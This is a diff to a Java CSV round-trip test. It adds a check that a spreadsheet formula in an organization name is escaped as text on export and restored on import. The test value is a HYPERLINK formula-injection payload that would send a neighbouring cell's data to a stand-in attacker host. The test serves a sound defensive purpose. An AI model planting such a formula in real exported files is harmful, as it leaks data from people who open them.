@@ -72,6 +72,24 @@ class CsvRoundTripTest {
     }
 
     @Test
+    void l1_aFormulaInACellIsExportedAsTextAndImportedAsItWas() throws IOException {
+        String formula = "=HYPERLINK(\"https://evil.example/?\"&B2,\"open\")";
+        given().auth().oauth2(TestTokens.admin()).contentType("application/json")
+                .body("{\"kind\": \"platform\", \"nameAr\": \"الذاكرة السورية\", \"nameEn\": \"" + formula.replace("\"", "\\\"") + "\"}")
+                .post("/organizations").then().statusCode(201);
+        String csv = exportCsv("organizations");
+        List<List<String>> before = withoutTimestamps(csv);
+        String cell = row(before, "الذاكرة السورية").get(before.get(0).indexOf("name_en"));
+        assertEquals("'" + formula, cell, "a spreadsheet shows it as text and does not run it");
+
+        tables.wipe();
+        importCsv("organizations", csv).statusCode(200).body("created.organizations", equalTo(1));
+        given().auth().oauth2(TestTokens.admin()).queryParam("q", "الذاكرة السورية").get("/organizations")
+                .then().statusCode(200).body("items[0].nameEn", equalTo(formula));
+        assertEquals(before, withoutTimestamps(exportCsv("organizations")));
+    }
+
+    @Test
     void aBadRowIsRejectedWithItsColumnAndTheOthersImported() {
         String csv = """
                 id,kind,name_ar,name_en,short_names,founding_date,other_names\r
